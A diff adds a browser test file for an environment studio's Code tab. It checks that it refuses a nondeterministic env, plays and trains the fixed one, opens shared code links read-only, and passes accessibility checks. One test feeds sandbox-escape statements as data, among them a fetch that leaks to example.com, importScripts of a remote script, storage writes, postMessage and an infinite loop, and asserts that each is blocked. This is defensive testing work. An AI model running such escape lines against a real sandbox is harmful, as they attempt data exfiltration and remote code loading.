@@ -1,0 +1,160 @@
+/**
+ * The env studio's Code tab in Chromium: a code env with a nondeterminism bug is refused by the
+ * check with its line; the fixed one plays by hand, runs a random agent and trains (GRPO) to
+ * success ≥ 0.9. Escape attempts fail visibly, each at its line, and leave the page untouched:
+ * fetch (no request leaves), indexedDB (no database appears), localStorage (no key), importScripts,
+ * postMessage (the page hears nothing), `while (true) {}` (stopped at the deadline). A code link
+ * opens read-only under a banner and runs nothing — no code worker even starts — until Run.
+ * axe-core, 390 px width and the keyboard on the tab.
+ */
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { describe, expect, inject, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { ARTIFACTS, useBrowser, watchErrors } from './browser.ts';
+
+const appUrl = inject('appUrl');
+const browser = useBrowser();
+const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+const ROOM = readFileSync(new URL('../examples/envs/empty-room.js', import.meta.url), 'utf8');
+/** The example shrunk to a 5×5 room (64 steps), so a run learns it in a few iterations. */
+const SMALL = ROOM.replace('const SIZE = 8,', 'const SIZE = 5,').replace('maxSteps: 256,', 'maxSteps: 64,').replace("title: 'Empty room 8x8 (code)'", "title: 'Empty room 5x5 (code)'");
+/** The same with a nondeterminism bug: the start heading drawn from Math.random. */
+const BUGGY = SMALL.replace('x = 1; y = 1; dir = 0;', 'x = 1; y = 1;\n  dir = Math.floor(Math.random() * 4);');
+const lineOf = (code: string, text: string) => code.split('\n').findIndex((l) => l.includes(text)) + 1;
+
+async function paste(page: Page, code: string): Promise<void> {
+  const content = page.locator('[data-testid=code-env-editor] .cm-content');
+  await content.click();
+  await page.keyboard.press('Control+A');
+  await content.evaluate((el, text) => {
+    const data = new DataTransfer();
+    data.setData('text/plain', text);
+    el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+  }, code);
+}
+
+const checkStatus = (page: Page) => page.getByTestId('code-env-check-status').textContent();
+
+async function saveAndWait(page: Page): Promise<string> {
+  await page.getByTestId('code-env-save').click();
+  await expect.poll(() => checkStatus(page), { timeout: 60_000 }).toMatch(/^Check (passed|failed)/);
+  return (await checkStatus(page))!;
+}
+
+async function axeProblems(page: Page): Promise<string[]> {
+  if (!(await page.evaluate(() => 'axe' in window))) await page.addScriptTag({ content: axeSource });
+  const found = await page.evaluate(async () => {
+    const axe = (window as unknown as { axe: { run: (ctx: Document, o: object) => Promise<{ violations: { id: string; impact: string | null; nodes: { target: string[] }[] }[] }> } }).axe;
+    const r = await axe.run(document, { resultTypes: ['violations'] });
+    return r.violations.map((v) => ({ id: v.id, impact: v.impact, targets: v.nodes.map((n) => n.target.join(' ')) }));
+  });
+  return found.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => `${v.id} (${v.impact}) × ${v.targets.length}: ${v.targets.slice(0, 3).join(' | ')}`);
+}
+
+describe('env studio: code envs', () => {
+  it('refuses a nondeterministic env at its line; the fixed one plays, runs a random agent and trains GRPO to success >= 0.9', { timeout: 400_000 }, async () => {
+    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
+    const errors = watchErrors(page);
+    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code`);
+    await page.getByTestId('code-env-panel').waitFor();
+    await paste(page, BUGGY);
+    expect(await saveAndWait(page)).toBe('Check failed: 1 problem.');
+    const problem = await page.getByTestId('code-env-problems').textContent();
+    expect(problem).toContain(`Line ${lineOf(BUGGY, 'Math.random')} [determinism] the same seed must give the same episode`);
+    await expect.poll(() => page.locator('[data-testid=code-env-editor] .cm-lintRange-error').count()).toBeGreaterThan(0);
+    await page.screenshot({ path: `${ARTIFACTS}/code-env-refused.png` });
+    expect(await axeProblems(page)).toEqual([]);
+
+    await paste(page, SMALL);
+    expect(await saveAndWait(page)).toMatch(/^Check passed: Empty room 5x5 \(code\) \(grid, 7 actions, 64 steps at most\)/);
+    // Play by hand with the keyboard: focus the play area, turn right, walk down to the goal.
+    await page.getByTestId('code-env-play').click();
+    await page.getByTestId('code-env-stage').focus();
+    for (const key of ['ArrowUp', 'ArrowUp', 'ArrowRight', 'ArrowUp', 'ArrowUp']) await page.keyboard.press(key);
+    await expect.poll(() => page.getByTestId('code-env-play-status').textContent()).toMatch(/^step 5\/64 · return 0\.9\d+ · success$/);
+    await page.screenshot({ path: `${ARTIFACTS}/code-env-play.png` });
+    await page.getByTestId('code-env-random').click();
+    await expect.poll(() => page.getByTestId('code-env-random-result').textContent(), { timeout: 60_000 }).toMatch(/^success \d+% over 100 seeds/);
+    expect(await axeProblems(page)).toEqual([]);
+
+    await page.getByTestId('code-env-preset').selectOption('grid-empty-8x8-grpo');
+    await page.getByTestId('code-env-train').click();
+    const status = page.getByTestId('train-status');
+    await expect.poll(async () => Number(await status.getAttribute('data-max-success')), { timeout: 300_000, interval: 500 }).toBeGreaterThanOrEqual(0.9);
+    const it = Number(await status.getAttribute('data-iteration'));
+    console.log(`code env (5x5 room) trained with GRPO in the tab: success >= 0.9 by iteration ${it}`);
+    await page.screenshot({ path: `${ARTIFACTS}/code-env-trained.png` });
+    expect(errors).toEqual([]);
+    await page.close();
+  });
+
+  it('escape attempts fail visibly at their line and leave the page untouched', { timeout: 240_000 }, async () => {
+    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
+    const outbound: string[] = [];
+    page.on('request', (r) => {
+      if (!r.url().startsWith(appUrl)) outbound.push(r.url());
+    });
+    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code`);
+    await page.getByTestId('code-env-panel').waitFor();
+    await page.evaluate(() => {
+      (window as unknown as { heard: number }).heard = 0;
+      addEventListener('message', () => (window as unknown as { heard: number }).heard++);
+    });
+    const dbsBefore = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
+    const attempts: [string, string, RegExp][] = [
+      ['fetch', "fetch('https://example.com/?leak=1');", /\[exception\] step\(\) threw ReferenceError: '?fetch'? is not defined/],
+      ['indexedDB', "indexedDB.open('escaped');", /\[exception\] step\(\) threw ReferenceError: '?indexedDB'? is not defined/],
+      ['localStorage', "localStorage.setItem('escaped', '1');", /\[exception\] step\(\) threw ReferenceError: '?localStorage'? is not defined/],
+      ['importScripts', "importScripts('https://example.com/x.js');", /\[exception\] step\(\) threw ReferenceError: '?importScripts'? is not defined/],
+      ['postMessage', "postMessage({ escaped: true }, '*');", /\[exception\] step\(\) threw ReferenceError: '?postMessage'? is not defined/],
+      ['while (true)', 'while (true) {}', /\[timeout\] step\(\) ran past its 1000 ms limit and was stopped \(an infinite loop\?\)/],
+    ];
+    for (const [name, stmt, message] of attempts) {
+      const code = SMALL.replace('  steps++;', `  steps++;\n  ${stmt}`);
+      await paste(page, code);
+      expect(await saveAndWait(page), name).toMatch(/^Check failed/);
+      const text = (await page.getByTestId('code-env-problems').textContent())!;
+      expect(text, name).toMatch(message);
+      const line = Number(/(?:Near line|Line) (\d+)/.exec(text)![1]);
+      // QuickJS files an empty loop's back jump under the statement before it.
+      expect([lineOf(code, stmt), ...(name.startsWith('while') ? [lineOf(code, stmt) - 1] : [])], name).toContain(line);
+      if (name === 'while (true)') await page.screenshot({ path: `${ARTIFACTS}/code-env-escape-loop.png` });
+    }
+    expect(outbound).toEqual([]);
+    expect(await page.evaluate(() => (window as unknown as { heard: number }).heard)).toBe(0);
+    expect(await page.evaluate(() => localStorage.getItem('escaped'))).toBeNull();
+    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort())).toEqual(dbsBefore);
+    await page.close();
+  });
+
+  it('a code link opens read-only under a banner and runs nothing until Run; 390 px and the keyboard work', { timeout: 180_000 }, async () => {
+    const page = await browser().newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+    const workers: string[] = [];
+    page.on('worker', (w) => workers.push(w.url()));
+    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code&code=${encodeURIComponent(SMALL)}`);
+    await page.getByTestId('code-env-banner').waitFor();
+    expect(await page.getByTestId('code-env-banner').textContent()).toMatch(/This link carries code\. Nothing has run yet\. Review it below, then press Run/);
+    expect(await checkStatus(page)).toBe('Not run: review the code, then press Run.');
+    expect(await page.getByTestId('code-env-save').isDisabled()).toBe(true);
+    // Read-only: typing changes nothing.
+    await page.locator('[data-testid=code-env-editor] .cm-content').click();
+    await page.keyboard.type('xyz');
+    expect(await page.locator('[data-testid=code-env-editor] .cm-content').textContent()).not.toContain('xyz');
+    await page.waitForTimeout(1500);
+    expect(workers.filter((u) => /studioWorker/.test(u))).toEqual([]);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
+    await page.screenshot({ path: `${ARTIFACTS}/code-env-link-banner-phone.png`, fullPage: true });
+    expect(await axeProblems(page)).toEqual([]);
+    // Run by keyboard: focus the button, press Enter.
+    await page.getByTestId('code-env-run').focus();
+    await page.keyboard.press('Enter');
+    await expect.poll(() => checkStatus(page), { timeout: 60_000 }).toMatch(/^Check passed/);
+    expect(workers.filter((u) => /studioWorker/.test(u))).toHaveLength(1);
+    expect(await page.getByTestId('code-env-banner').count()).toBe(0);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
+    await page.screenshot({ path: `${ARTIFACTS}/code-env-phone-checked.png`, fullPage: true });
+    expect(await axeProblems(page)).toEqual([]);
+    await page.close();
+  });
+});
